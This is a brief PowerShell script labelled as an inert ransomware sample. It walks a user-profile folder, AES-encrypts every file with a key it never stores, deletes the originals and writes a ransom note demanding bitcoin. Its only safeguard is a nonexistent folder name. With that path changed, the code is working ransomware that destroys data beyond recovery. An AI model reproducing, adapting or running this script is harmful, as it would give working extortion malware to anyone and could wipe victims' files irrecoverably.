# A sample: the folder does not exist.
$aes = [System.Security.Cryptography.Aes]::Create()
Get-ChildItem -Path "$env:USERPROFILE\inert-sample-that-is-not-there" -Recurse -File | ForEach-Object {
    $data = [IO.File]::ReadAllBytes($_.FullName)
    $locked = $aes.CreateEncryptor().TransformFinalBlock($data, 0, $data.Length)
    [IO.File]::WriteAllBytes($_.FullName + ".inert", $locked)
    Remove-Item $_.FullName
}
[IO.File]::WriteAllText("$env:USERPROFILE\README.txt", "Your files are encrypted. Pay in bitcoin to decrypt them. A sample, inert.")
